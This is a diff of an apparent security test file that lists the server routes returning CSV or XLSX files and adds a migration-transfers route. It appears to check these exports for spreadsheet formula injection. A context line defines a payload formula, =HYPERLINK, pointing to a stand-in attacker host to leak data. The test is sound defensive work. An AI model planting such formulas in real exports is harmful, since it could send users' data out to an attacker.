@@ -14,13 +14,15 @@ const FORMULA = '=HYPERLINK("http://attacker.test/?leak","open")';
 /**
  * The server's routes that answer a spreadsheet (CSV or XLSX), as the OpenAPI document names them.
  * A managerial download's file is written by the download job, whose formula cells its own test
- * attacks (modules/downloads/downloads.test.ts); a data migration's report of bad lines echoes the
- * uploaded file's cells, attacked in modules/migrations/migrations.test.ts.
+ * attacks (modules/downloads/downloads.test.ts); a data migration's reports of bad lines (of an
+ * import, of a past data transfer) echo the uploaded file's cells, attacked in
+ * modules/migrations/migrations.test.ts and transfers.test.ts.
  */
 const SPREADSHEET_ROUTES = [
   'GET /api/v1/reports/{id}/export/{format}',
   'GET /api/v1/download-requests/{id}/file',
   'GET /api/v1/migration-imports/{id}/issues',
+  'GET /api/v1/migration-transfers/{id}/issues',
 ];
 const SPREADSHEET_TYPES = /text\/csv|spreadsheetml/;
 /** Routes that hand back a file as it was uploaded (a CSV among the files): the server writes no cell. */
